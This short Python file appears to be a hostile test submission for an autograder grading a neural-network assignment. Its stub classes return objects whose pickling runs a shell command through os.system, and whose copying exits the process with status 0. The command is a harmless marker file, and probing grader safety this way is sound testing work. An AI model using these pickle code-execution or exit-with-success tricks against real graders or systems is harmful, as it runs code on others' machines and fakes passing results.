"""Hands back pickles, and objects whose pickling or copying would run code in a judge: bytes, __reduce__, dtype object."""

import os
import pickle

import numpy as np


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-was-here",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __copy__ = __deepcopy__ = lambda self, *_: os._exit(0)


class Linear:
    dweight = property(lambda self: np.array([Runs()], dtype=object))
    dbias = property(lambda self: np.frombuffer(pickle.dumps(Runs()), np.uint8))

    def __init__(self, *parameters):
        pass

    def forward(self, *values):
        return pickle.dumps(Runs())

    def backward(self, *values):
        return Runs()


ReLU = Sigmoid = BCEWithLogits = Sequential = Linear
